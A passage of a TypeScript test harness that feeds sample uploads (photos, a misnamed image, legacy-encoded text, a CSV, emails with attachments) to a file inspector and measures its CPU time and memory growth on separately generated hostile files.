  'a photo of a phone': ['IMG_1.JPG', () => joined(jpeg(8160, 6120), new Uint8Array(100_000))],
  'a photo under another picture’s name': ['IMG_1.png', () => jpeg(100, 100)],
  'a picture': ['scan.png', () => png(2480, 3508)],
  'a text in letters of another day': ['note.txt', () => latin('Caf\xe9 \x93quoted\x94, 5 < 6\r\n')],
  'a table': ['rows.csv', () => strToU8('Name,Sum,Phone\nZoë,-5,+1 555 0100\n"a | b",=1+2,!\n')],
  'a mail with a Word file': ['Re lease.eml', () => attached('lease.docx', docxWith())],
  'a mail with an unknown file': ['Re lease.eml', () => attached('meeting.ics', latin('BEGIN:VCALENDAR'))],
};

/** What whoever uploads a file reads, or the type that it is taken as. */
export const outcomeOf = async (name: string, bytes: Uint8Array): Promise<string> => {
  const inspection = await inspectFile(sourceOf(bytes), name);
  return 'refused' in inspection ? tellInEnglish(inspection.refused) : inspection.type;
};

/**
 * Runs as a process of its own over files that another one made, in a folder under their numbers, so that its growth is that of inspecting
 * alone; prints for each what came of it, milliseconds of the processor, and by how many bytes the process has grown at most since the first.
 */
if (import.meta.main) {
  const folder = process.argv[2] ?? '';
  // What any first inspection loads and compiles is no growth of the next one.
  for (const [name, make] of Object.values(plainFiles)) await outcomeOf(name, make());
  const before = process.resourceUsage().maxRSS;
  const results: Record<string, { outcome: string; milliseconds: number; bytes: number }> = {};
  for (const [at, [name, [fileName]]] of Object.entries(hostileFiles).entries()) {
    const bytes = readFileSync(join(folder, String(at)));
    const { outcome, milliseconds } = await leastCpu(ENOUGH_MS, () => outcomeOf(fileName, bytes));
    results[name] = { outcome, milliseconds, bytes: 1024 * (process.resourceUsage().maxRSS - before) };
  }
  console.log(JSON.stringify(results));
}
